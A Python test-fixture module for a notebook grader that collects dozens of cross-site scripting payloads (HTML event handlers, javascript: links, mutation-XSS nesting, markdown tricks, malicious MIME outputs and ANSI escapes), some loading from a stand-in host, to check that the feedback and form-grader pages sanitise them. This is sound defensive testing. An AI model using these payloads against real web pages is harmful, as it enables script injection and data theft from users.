"""Attacks on the pages that show a learner's work, and those pages.

The attacks are data: what a program may display or somebody may write. In each, RUN is replaced by a call that the
page counts, SEND by an address that is watched, PNG by a small picture, PNGDATA by its base64 and SVG64 by the base64
of :data:`SVG`.
"""

import base64
import io
import json

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from grader.checking.verdict import MIME
from grader.grading.sanitise import clean_markdown, clean_outputs


def picture(kind="PNG", size=(4, 3)) -> str:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, "#aa3377").save(buffer, kind)
    return base64.b64encode(buffer.getvalue()).decode()


def base64_of(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><script>RUN</script></svg>'

HTML = [
    "<script>RUN</script>",
    "<script src=SEND></script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<SCRIPT/x>RUN</SCRIPT>",
    "<img src=x: onerror=RUN>",
    "<img/src=x:/onerror=RUN>",
    "<img src=x:\nonerror\n=\nRUN>",
    '<img """><script>RUN</script>">',
    "<img src='x:' alt='`' onerror='RUN'>",
    "<img src=SEND>",
    "<img srcset='SEND 2x' src=SEND>",
    "<picture><source srcset=SEND><img></picture>",
    "<body onload=RUN>",
    "<input autofocus onfocus=RUN>",
    "<div onmouseover=RUN>over</div>",
    "<div style='animation-name:x' onanimationstart=RUN></div>",
    "<details open ontoggle=RUN>",
    "<video src=SEND onerror=RUN></video>",
    "<audio src=x: onerror=RUN></audio>",
    "<video><source onerror=RUN src=x:></video>",
    "<video poster=SEND></video>",
    "<iframe src='javascript:parent.RUN'></iframe>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe src=SEND></iframe>",
    "<object data=SEND></object>",
    "<embed src=SEND>",
    "<link rel=stylesheet href=SEND>",
    "<base href=SEND><img src=x>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<a href='javascript:RUN'>a</a>",
    "<a href='jAvAsCrIpT&colon;RUN'>a</a>",
    "<a href='java&Tab;script:RUN'>a</a>",
    "<a href='&#x6A;avascript&#58;RUN'>a</a>",
    "<a href='\x01javascript:RUN'>a</a>",
    "<a href=' &#10;javascript:RUN'>a</a>",
    "<a href='data:text/html,<script>RUN</script>'>a</a>",
    "<a href='evil.html'>the form grader would serve it</a>",
    "<form action='javascript:RUN'><button>a</button></form>",
    "<form><button formaction='javascript:RUN'>a</button></form>",
    "<div style='background:url(SEND)'>a</div>",
    "<div style='background:u\\72l(SEND)'>a</div>",
    "<div style=\"background:image-set('SEND' 1x);width:9px\">a</div>",
    "<style>@import 'SEND';</style>",
    "<style>*{background:url(SEND)}</style>",
    "<table background=SEND><tr><td>a</table>",
    "<svg onload=RUN></svg>",
    "<svg><script>RUN</script></svg>",
    "<svg><a xlink:href='javascript:RUN'><text y=20>a</text></a></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><image href=SEND></image></svg>",
    "<svg><foreignObject><img src=x: onerror=RUN></foreignObject></svg>",
    "<svg><style><img src=x: onerror=RUN></style></svg>",
    "<svg></p><style><a title='</style><img src=x: onerror=RUN>'>",
    "<math><maction actiontype=statusline xlink:href='javascript:RUN'>a</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror=RUN&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>",
    "<math><annotation-xml encoding='text/html'><img src=x: onerror=RUN></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x: onerror=RUN>'>",
    "<title><img src='</title><img src=x: onerror=RUN>'></title>",
    "<textarea><img src='</textarea><img src=x: onerror=RUN>'></textarea>",
    "<xmp><p title='</xmp><img src=x: onerror=RUN>'></xmp>",
    "<template><img src=x: onerror=RUN></template><img src=x: onerror=RUN>",
    "<select><option><img src=x: onerror=RUN></select><img src=x: onerror=RUN>",
    "<!--><img src=x: onerror=RUN>-->",
    "<!-- --!><img src=x: onerror=RUN> -->",
    "<![CDATA[><img src=x: onerror=RUN>]]>",
    "<?php <img src=x: onerror=RUN> ?>",
    "<a title='&quot;><img src=x: onerror=RUN>'>a</a><img alt='\"><img src=x: onerror=RUN>' src=x:>",
    "<p title=\"a'><img src=x: onerror=RUN>\"><b x='\">' onclick=RUN>b</b>",
    "</pre></div></div></div></div><img src=x: onerror=RUN>",
    "<img src='data:image/svg+xml;base64,SVG64'><object data='data:image/svg+xml;base64,SVG64'></object>",
    "<div class='mermaid'>graph TD; A[<img src=x: onerror=RUN>]</div><img src=x: onerror=RUN>",
    "<plaintext><img src=x: onerror=RUN>",
]

MARKDOWN = [
    "<script>RUN</script>",
    "text <img src=x: onerror=RUN> text",
    "[a](javascript:RUN)",
    "[a](<javascript:RUN>)",
    "[a](javascript&colon;RUN)",
    "[a](&#x6A;avascript:RUN)",
    "[a](\x01javascript:RUN)",
    "[a](files/javascript:RUN)",
    "[a](/files/javascript:RUN)",
    "[a](evil.html)",
    "[a][b]\n\n[b]: javascript:RUN",
    "[b]\n\n[b]: <javascript:RUN> 'title'",
    "<javascript:RUN>",
    '<a href="files/javascript:RUN">a</a>',
    "![a](SEND)",
    "![a][b]\n\n[b]: SEND",
    '![a" onerror="RUN](x:)\n\n<img src=x: onerror=RUN>',
    "[![a](SEND)](javascript:RUN)",
    "# <img src=x: onerror=RUN>",
    "```mermaid\n</pre><img src=x: onerror=RUN>\n```",
    '```"><img/src=x:/onerror=RUN>\ncode\n```',
    "```python\nx\n```\n<img src=x: onerror=RUN>",
    "$$<img src=x: onerror=RUN>$$\n\n<svg onload=RUN>",
    "\\begin{a}<img src=x: onerror=RUN>\\end{a}\n\n<img src=x: onerror=RUN>",
    "|a|\n|-|\n|<img src=x: onerror=RUN>|",
    "- [ ] <img src=x: onerror=RUN>",
    "term\n: <img src=x: onerror=RUN>",
    "`` <b> `` <img src=x: onerror=RUN> `` </b> ``",
    "<div>\n\n[a](javascript:RUN)\n\n</div></div></div></div></div><img src=x: onerror=RUN>",
    "> <iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<style>@import 'SEND';</style>",
    '<img src="SEND" src="data:image/png;base64,PNGDATA">',
    '<a href="javascript:RUN" href="https://example.org">a</a>',
    "~~~~\n~~~\n<img src=x: onerror=RUN>\n~~~~\n<img src=x: onerror=RUN>",
]

# (MIME types and their data, metadata): what a program may send as an output.
DISPLAYS = [
    ({"application/javascript": "RUN"}, {}),
    ({"text/javascript": "RUN", "text/html": "<script>RUN</script>"}, {}),
    ({"image/svg+xml": SVG}, {}),
    ({"image/svg+xml": "x' onerror='RUN"}, {}),
    ({"image/png": 'x" onerror="RUN'}, {}),
    ({"image/png": "PNG"}, {"image/png": {"width": "1 onload=RUN", "height": "x onload=RUN"}}),
    ({"image/png": "PNG"}, {"width": "1 onload=RUN"}),
    ({"image/png": "PNG"}, {"image/png": {"alt": '"><img src=x: onerror=RUN>'}}),
    ({"image/jpeg": "x onerror=RUN"}, {"filenames": {"image/jpeg": "SEND"}}),
    ({"image/png": "PNG"}, {"filenames": {"image/png": "SEND"}}),
    ({"text/html": "<b>a</b><script>parent.RUN</script>"}, {"text/html": {"isolated": True}}),
    ({"text/markdown": "<img src=x: onerror=RUN>"}, {}),
    ({"text/markdown": "[a](javascript:RUN)"}, {}),
    ({"text/latex": "$x$<img src=x: onerror=RUN>"}, {}),
    ({"text/latex": "$\\href{javascript:RUN}{x}$"}, {}),
    ({"text/plain": "<script>RUN</script>"}, {}),
    ({"application/vnd.jupyter.widget-view+json": {"model_id": "</script>RUN"}, "text/plain": "w"}, {}),
    ({"application/pdf": "</div><script>RUN</script>", "text/plain": "p"}, {}),
    ({"text/vnd.mermaid": "<img src=x: onerror=RUN>", "text/plain": "m"}, {}),
    ({"<script>RUN</script>": "x", "text/plain": "key"}, {}),
    ({MIME: {"passed": True, "points": 5}, "text/plain": "5.0"}, {}),
]

OUTPUTS = [
    {"output_type": "stream", "name": "stdout", "text": "<img src=x: onerror=RUN>\x1b[31m<script>RUN</script>\x1b[0m"},
    {"output_type": "stream", "name": "stderr", "text": "\x1b[<img src=x: onerror=RUN>m"},
    {"output_type": "stream", "name": "stderr", "text": "\x1b]8;;javascript:RUN\x07a\x1b]8;;\x07"},
    {"output_type": "stream", "name": "stdout", "text": '\x1b[38;2;1;2;"><script>RUN</script>m<script>RUN</script>'},
    {
        "output_type": "error",
        "ename": "<script>RUN</script>",
        "evalue": "<img src=x: onerror=RUN>",
        "traceback": ["<script>RUN</script>", "\x1b[1;31m<img src=x: onerror=RUN>\x1b[0m"],
    },
]

SOURCES = [
    "x = '<script>RUN</script>' # </pre></div><img src=x: onerror=RUN>",
    "%%html\n<script>RUN</script>",
    "%%javascript\n</script><script>RUN</script>",
]


def display(data, metadata=None) -> dict:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


class Corpus:
    """Every attack as a cell of its own, as it came and as it is after cleaning."""

    def __init__(self):
        self.raw, self.clean = [], []
        for text in HTML:
            self.output(display({"text/html": self.fill(text)}))
        for data, metadata in DISPLAYS:
            self.output(display(*self.fill([data, metadata])))
        for output in OUTPUTS:
            self.output(self.fill(output))
        for text in MARKDOWN:
            text = self.fill(text)
            self.raw.append(new_markdown_cell(text))
            self.clean.append(new_markdown_cell(clean_markdown(text)))
        for text in SOURCES:
            self.raw.append(new_code_cell(self.fill(text)))
            self.clean.append(self.raw[-1])  # highlighted by the page, which escapes it

    def fill(self, attack):
        number = len(self.raw)
        run, send = f"pwn({number})", f"http://evil.test/{number}"
        text = attack if isinstance(attack, str) else json.dumps(attack)
        svg = base64_of(SVG.replace("RUN", run))
        for name, value in (("SVG64", svg), ("PNGDATA", picture()), ("RUN", run), ("SEND", send)):
            text = text.replace(name, value)
        if isinstance(attack, str):
            return text
        return json.loads(text.replace('"PNG"', f'"{picture()}"'))

    def output(self, output):
        self.raw.append(new_code_cell("show()", execution_count=1))
        self.raw[-1].outputs = [nbformat.from_dict(output)]
        self.clean.append(new_code_cell("show()", execution_count=1, outputs=clean_outputs([output])))


def feedback_page(cells) -> str:
    """The page that `nbgrader generate_feedback` writes, by its exporter."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.converters import GenerateFeedback
    from nbgrader.coursedir import CourseDirectory

    converter = GenerateFeedback(coursedir=CourseDirectory())
    exporter = HTMLExporter(config=converter.config)
    exporter.register_preprocessor("nbconvert.preprocessors.CSSHTMLHeaderPreprocessor", enabled=True)
    info = {"notebook": "u", "score": 0, "max_score": 5, "late_penalty": 0}
    return exporter.from_notebook_node(new_notebook(cells=cells), resources={"nbgrader": info})[0]


def formgrader_page(cells) -> str:
    """The page that the form grader shows for a submission, by its exporter and its template."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {
        "assignment_id": "u",
        "notebook_id": "u",
        "submission_id": "s",
        "index": 0,
        "total": 1,
        "base_url": "",
        "student": "a",
        "last_name": "b",
        "first_name": "c",
        "notebook_path": "u.ipynb",
    }
    return HTMLExporter(config=config).from_notebook_node(new_notebook(cells=cells), resources=resources)[0]
